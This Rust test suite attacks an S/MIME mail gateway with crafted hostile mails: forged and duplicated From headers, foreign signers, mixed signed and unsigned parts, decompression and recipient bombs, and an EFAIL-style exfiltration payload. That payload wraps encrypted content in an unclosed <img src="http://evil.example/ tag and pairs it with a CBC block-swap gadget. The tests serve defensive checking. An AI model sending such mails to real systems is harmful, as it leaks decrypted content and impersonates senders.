//! Mail that was made to be taken for something it is not, sent to a running gateway: what arrives is opened for nobody
//! who should not read it, and signed by nobody who did not sign it.

use anyhow::{Context, Result, ensure};
use certstore::cms;
use encodify::base64;
use integration::gateway::{HOSTNAME, Setup};
use integration::pki::{Pki, pki};
use integration::sink::Sink;
use integration::{mails, mime, openssl};

use crate::{ALICE, BOB};

const SECRET: &str = "Content-Type: text/plain; charset=us-ascii\r\nContent-Language: en\r\n\
    Content-Description: a description that fills blocks\r\n\r\nthe secret\r\n";

/// One hostile mail, and what has to be true of it when it arrives.
struct Attack {
    name: &'static str,
    mail: Vec<u8>,
    /// What its `Authentication-Results` of ours has to hold.
    verdict: &'static str,
}

/// A mail of `content` from bob, to alice.
fn mail(content: &[u8]) -> Vec<u8> {
    mime::dress(&mails::plain(BOB, ALICE).content, content)
}

fn replaced(mail: &[u8], old: &str, new: &str) -> Result<Vec<u8>> {
    let text = String::from_utf8(mail.to_vec())?;
    ensure!(text.contains(old), "{old} is not in {text}");
    Ok(text.replacen(old, new, 1).into_bytes())
}

fn joined(parts: &[&[u8]]) -> Vec<u8> {
    let mut whole = b"Content-Type: multipart/mixed; boundary=\"=_joined\"\r\n\r\n".to_vec();
    for part in parts {
        whole.extend_from_slice(b"--=_joined\r\n");
        whole.extend_from_slice(part);
        whole.extend_from_slice(b"\r\n");
    }
    whole.extend_from_slice(b"--=_joined--\r\n");
    whole
}

/// An entity application/pkcs7-mime of this CMS.
fn pkcs7(kind: &str, cms: &[u8]) -> Vec<u8> {
    let head = format!(
        "Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n"
    );
    [
        head.as_bytes(),
        base64::MIME.encode(cms).as_bytes(),
        b"\r\n",
    ]
    .concat()
}

/// Sends each to a gateway of its own house, and gives what arrived.
fn arrived(attacks: &[Attack]) -> Result<Vec<Vec<u8>>> {
    let sink = Sink::start()?;
    let gateway = Setup::default().next_hop(sink.address()).start()?;
    for attack in attacks {
        let sent = gateway.send(BOB, &[ALICE], &attack.mail)?;
        sent.accepted().context(attack.name)?;
    }
    let mut mails = sink.wait(attacks.len())?;
    mails.sort_by_key(|mail| {
        let place = |attack: &Attack| mime::values(&attack.mail, "Message-ID");
        let id = mime::values(&mail.content, "Message-ID");
        attacks.iter().position(|attack| place(attack) == id)
    });
    let mails: Vec<_> = mails.into_iter().map(|mail| mail.content).collect();
    for (attack, mail) in attacks.iter().zip(&mails) {
        let ours = mime::values(mail, "Authentication-Results");
        ensure!(ours.len() == 1, "{}: {ours:?}", attack.name);
        let told = &ours[0];
        ensure!(told.starts_with(HOSTNAME), "{}: {told}", attack.name);
        ensure!(told.contains(attack.verdict), "{}: {told}", attack.name);
        let plain = mime::values(mail, "X-Postern-Verdict");
        ensure!(plain.len() == 1, "{}: {plain:?}", attack.name);
    }
    Ok(mails)
}

/// Gives each mail a Message-ID of its own, by which it is found again.
fn numbered(attacks: Vec<(&'static str, Vec<u8>, &'static str)>) -> Result<Vec<Attack>> {
    attacks
        .into_iter()
        .enumerate()
        .map(|(number, (name, mail, verdict))| {
            let id = format!("<{number}.attack@example.org>");
            let mail = replaced(&mail, "<plain.1@example.org>", &id)?;
            Ok(Attack {
                name,
                mail,
                verdict,
            })
        })
        .collect()
}

#[test]
fn a_signature_is_that_of_the_author_or_nobodys() -> Result<()> {
    let pki = pki()?;
    let sign = |name: &str| openssl::sign(SECRET.as_bytes(), &pki.identity(name), &[]);
    let signed = mail(&sign("bob")?);
    let two = format!("From: <mallory@evil.example>\r\nFrom: <{BOB}>");
    let display = format!("From: \"{BOB}\" <mallory@evil.example>");
    let sender = format!("From: <mallory@evil.example>\r\nSender: <{BOB}>");
    let by = |from: &str| replaced(&signed, &format!("From: <{BOB}>"), from);
    let attacks = numbered(vec![
        ("as it is", signed.clone(), "smime=pass"),
        ("two From", by(&two)?, "ambiguous"),
        ("From as a name", by(&display)?, "address-mismatch"),
        ("Sender", by(&sender)?, "address-mismatch"),
        ("an unknown CA", mail(&sign("mallory")?), "smime=fail"),
        (
            "white space in the certificate",
            mail(&sign("spaced")?),
            "address-mismatch",
        ),
    ])?;
    arrived(&attacks).map(drop)
}

#[test]
fn only_what_is_signed_is_called_signed() -> Result<()> {
    let pki = pki()?;
    let entity = SECRET.as_bytes();
    let signed = openssl::sign(entity, &pki.bob(), &[])?;
    let opaque = openssl::sign(entity, &pki.bob(), &["-nodetach", "-binary"])?;
    let by_both = mail(&both(pki, entity)?);
    let altered = replaced(&by_both, "the secret", "a promise!")?;
    let beside = with_signature(&signed, &mime::payload(&opaque)?)?;
    let attached = [b"Content-Type: message/rfc822\r\n\r\n", &mail(&signed)[..]].concat();
    let html: &[u8] = b"Content-Type: text/html\r\n\r\n<p>Pay mallory</p>";
    let with_from = [b"From: <carol@example.org>\r\n", html].concat();
    let two_types = [b"Content-Type: text/html\r\n", &signed[..]].concat();
    let attacks = numbered(vec![
        ("content inside and beside", mail(&beside), "malformed"),
        ("several signers", by_both, "smime=pass"),
        ("several signers, altered", altered, "altered"),
        (
            "a signed attachment",
            mail(&joined(&[html, &attached])),
            "smime=none",
        ),
        (
            "a signed part",
            mail(&joined(&[html, &signed])),
            "partly-signed",
        ),
        (
            "an opaque part",
            mail(&joined(&[html, &opaque])),
            "partly-signed",
        ),
        (
            "a header inside an unsigned entity",
            mail(&with_from),
            "smime=none",
        ),
        ("a second Content-Type", mail(&two_types), "ambiguous"),
    ])?;
    arrived(&attacks).map(drop)
}

/// The clear-signed `mail` with another CMS in its second part.
fn with_signature(mail: &[u8], cms: &[u8]) -> Result<Vec<u8>> {
    let text = String::from_utf8(mail.to_vec())?;
    let (head, rest) = text.rsplit_once("\r\n\r\nMII").context("no signature")?;
    let (_, tail) = rest.split_once("\r\n\r\n").context("no end")?;
    let cms = base64::MIME.encode(cms);
    Ok(format!("{head}\r\n\r\n{cms}\r\n\r\n{tail}").into_bytes())
}

/// A detached signature by bob and mallory.
fn both(pki: &Pki, entity: &[u8]) -> Result<Vec<u8>> {
    let mallory = pki.identity("mallory");
    let path = |path: &std::path::Path| path.display().to_string();
    let options = [
        "-signer".to_owned(),
        path(&mallory.certificate),
        "-inkey".to_owned(),
        path(&mallory.key),
    ];
    let options: Vec<&str> = options.iter().map(String::as_str).collect();
    openssl::sign(entity, &pki.bob(), &options)
}

#[test]
fn nothing_decrypted_stands_beside_what_was_not() -> Result<()> {
    let pki = pki()?;
    let sealed = openssl::encrypt(SECRET.as_bytes(), &[&pki.alice()], "-aes-256-cbc", &[])?;
    let cms = mime::payload(&sealed)?;
    let html: &[u8] = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    let from = format!("From: <{BOB}>");
    let two = format!("From: <{ALICE}>\r\n{from}");
    let swapped = {
        // The content ends the structure: its first blocks change places, and become noise within the header.
        let length = SECRET.len() / 16 * 16 + 16;
        let start = cms.len() - length;
        let mut cms = cms.clone();
        cms.copy_within(start + 32..start + 48, start);
        cms
    };
    let signed_outside = openssl::sign(&sealed, &pki.identity("mallory"), &[])?;
    let attacks = numbered(vec![
        ("as it is", mail(&sealed), "unauthenticated"),
        ("between HTML", mail(&joined(&[html, &sealed, html])), "smime=none"),
        ("two From", replaced(&mail(&sealed), &from, &two)?, "ambiguous"),
        ("a gadget", mail(&pkcs7("enveloped-data", &swapped)), "smime=none"),
        ("a signature of somebody else around it", mail(&signed_outside), "partly-signed"),
        (
            "a forged field within",
            mail(&openssl::encrypt(
                b"X-Postern-Verdict: pass\r\nFrom: <carol@example.org>\r\nContent-Type: text/plain\r\n\r\nthe secret\r\n",
                &[&pki.alice()],
                "-aes-256-gcm",
                &[],
            )?),
            "smime=none",
        ),
    ])?;
    let readable = |mail: &[u8]| mime::find(mail, b"the secret").is_some();
    let opened: Vec<bool> = arrived(&attacks)?
        .iter()
        .map(|mail| readable(mail))
        .collect();
    assert_eq!(opened, [true, false, false, false, true, true]);
    Ok(())
}

#[test]
fn bombs_are_answered_and_the_next_mail_is_taken() -> Result<()> {
    let pki = pki()?;
    let entity = SECRET.as_bytes();
    let bob = pki.bob();
    let many_recipients = vec![&bob; 10_000];
    let sealed = openssl::encrypt(entity, &many_recipients, "-aes-256-cbc", &[])?;
    let signer = [
        "-signer".to_owned(),
        bob.certificate.display().to_string(),
        "-inkey".to_owned(),
        bob.key.display().to_string(),
    ];
    let mut many_signers = vec!["-nocerts", "-certfile", &signer[1]];
    many_signers.extend(signer.iter().map(String::as_str).cycle().take(4 * 999));
    let signed = openssl::sign(entity, &bob, &many_signers)?;
    let mut deep = b"Content-Type: text/plain\r\n\r\nHi\r\n".to_vec();
    for _ in 0..25 {
        deep = joined(&[&deep]);
    }
    let mut nested = entity.to_vec();
    for _ in 0..6 {
        nested = openssl::encrypt(&nested, &[&pki.alice()], "-aes-256-gcm", &[])?;
    }
    let attacks = numbered(vec![
        ("10,000 recipients", mail(&sealed), "smime=none"),
        ("1,000 signers", mail(&signed), "smime="),
        ("deep parts", mail(&deep), "smime=none"),
        ("deep encryption", mail(&nested), "smime=none"),
        ("the next mail", mail(entity), "smime=none"),
    ])?;
    arrived(&attacks).map(drop)
}

#[test]
fn what_is_compressed_is_unpacked_within_bounds() -> Result<()> {
    let pki = pki()?;
    let entity = SECRET.as_bytes();
    let compress = |entity: &[u8]| -> Result<Vec<u8>> {
        Ok(pkcs7("compressed-data", &cms::compress(entity)?))
    };
    let sign = |entity: &[u8]| openssl::sign(entity, &pki.bob(), &[]);
    let seal = |entity: &[u8]| openssl::encrypt(entity, &[&pki.alice()], "-aes-256-gcm", &[]);
    let bomb = [entity, &vec![b'a'; 50 << 20]].concat();
    let attacks = numbered(vec![
        (
            "signed in compressed",
            mail(&compress(&sign(entity)?)?),
            "smime=pass",
        ),
        (
            "compressed in signed",
            mail(&sign(&compress(entity)?)?),
            "smime=pass",
        ),
        (
            "compressed in encrypted",
            mail(&seal(&compress(entity)?)?),
            "smime=none",
        ),
        (
            "signed in compressed in encrypted",
            mail(&seal(&compress(&sign(entity)?)?)?),
            "smime=pass",
        ),
        ("a bomb", mail(&compress(&bomb)?), "malformed"),
        (
            "a bomb in encrypted",
            mail(&seal(&compress(&bomb)?)?),
            "malformed",
        ),
        (
            "a bomb in a bomb",
            mail(&seal(&compress(&compress(&bomb)?)?)?),
            "malformed",
        ),
    ])?;
    let readable = |mail: &[u8]| mime::find(mail, b"the secret").is_some();
    let unpacked: Vec<bool> = arrived(&attacks)?
        .iter()
        .map(|mail| readable(mail))
        .collect();
    assert_eq!(unpacked, [false, false, true, true, false, false, false]);
    Ok(())
}
